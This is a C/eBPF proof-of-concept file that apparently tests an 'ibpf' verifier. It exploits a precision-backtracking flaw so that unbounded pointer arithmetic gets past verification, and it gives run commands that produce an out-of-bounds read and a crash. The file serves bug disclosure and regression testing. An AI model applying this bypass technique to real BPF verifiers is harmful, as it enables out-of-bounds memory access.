// SPDX-License-Identifier: GPL-2.0
/*
 * attack2_01 - a register already marked precise is refined by a JMP_X
 * against an imprecise register; a checkpoint after the branch then stops
 * precision backtracking before it reaches the branch's other operand.
 *
 * insn 12 "if r6 > -1" is decided, so mark_precise(r6) sets r6->precise in
 * the CURRENT state (precise.c mark_precise: "r->precise = 1").  Path A
 * (r9 != 0, explored first): r8 in [0,7]; at P (insn 35, checkpoint) r6 is
 * precise/unbounded, r8 imprecise.  "if r6 >= r8" refines r6 to [0,6] via
 * r8 but keeps r6's precise flag (branch_refine never clears it; only
 * alu.c scalar_new_value does).  The call to a2_01_sub forces checkpoints at
 * its entry (42) and the return point (37), both copied from the current
 * state with r6 already precise.  At 37 "r7 += r6" -> mark_precise(r6) ->
 * backtrack(): at the checkpoint of insn 42 apply() finds r6 already precise,
 * fresh == 0, "already propagated from here on" -> return.  The JMP_X at 35
 * (which would add r8) is never walked, so P's r8 stays imprecise.
 * Path B (r9 == 0): r8 unknown; at P regsafe() ignores imprecise r8 ->
 * "35: safe".  At run time r6 < r8 with r8 = 2^64-1 lets r6 be anything.
 * (Without the call, i.e. no checkpoint between 35 and 37, the program is
 * rejected: "math between map_value pointer and register with unbounded min
 * value".)
 *
 * Expected: rejected (R7 += R6 with R6 unbounded on path B).
 * Actual: accepted; OOB read from the 8-byte map value.
 *   make build/ibpf build/progs/attack2_01.o
 *   build/ibpf verify build/progs/attack2_01.o            # rc 0
 *   build/ibpf run build/progs/attack2_01.o --ctx 4000000000000000ffffffffffffffff0000000000000000 --self-check
 *     -> self-check: insn 37: R6 = 0x40 is outside what the verifier proved: [0,6]
 *   build/ibpf run build/progs/attack2_01.o --ctx 0000000001000000ffffffffffffffff0000000000000000 --engine jit
 *     -> SIGSEGV (r6 = 2^32 past the map value)
 * Root cause: precision flags set in the current state survive into new
 * checkpoints, and backtrack() treats "already precise in a checkpoint" as
 * "its sources were already walked" (the `if (!fresh) return` shortcut).
 * That holds only if nothing refines a precise register from new sources
 * afterwards; check_cond_jmp()/branch_refine() does (JMP_X against another
 * register; likewise sync of linked ids).  The kernel never sets precise in
 * the current state and clears inherited marks on new checkpoints
 * (mark_all_scalars_imprecise in is_state_visited).
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, __u64);
} a2_01_map SEC(".maps");

__attribute__((naked, noinline, used)) static int a2_01_sub(void)
{
	asm volatile ("r0 = 0; exit;");
}

SEC("syscall") __attribute__((naked)) int attack2_01(void *ctx)
{
	asm volatile (
		"r6 = *(u64 *)(r1 + 0);"
		"r8 = *(u64 *)(r1 + 8);"
		"r9 = *(u64 *)(r1 + 16);"
		"r1 = 0;"
		"*(u32 *)(r10 - 4) = r1;"
		"r2 = r10;"
		"r2 += -4;"
		"r1 = %[map] ll;"
		"call %[lookup];"
		"if r0 == 0 goto l_exit_%=;"
		"r7 = r0;"
		"if r6 > -1 goto l_exit_%=;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"if r9 == 0 goto l_b_%=;"
		"if r8 > 7 goto l_exit_%=;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"goto l_p_%=;"
	"l_b_%=:"
		"r5 = 0;"
	"l_p_%=:"
		"if r6 >= r8 goto l_exit_%=;"
		"call a2_01_sub;"
		"r7 += r6;"
		"r0 = *(u8 *)(r7 + 0);"
		"exit;"
	"l_exit_%=:"
		"r0 = 0;"
		"exit;"
		:
		: [map] "i"(&a2_01_map), [lookup] "i"(BPF_FUNC_map_lookup_elem)
		: "memory");
}

char _license[] SEC("license") = "GPL";
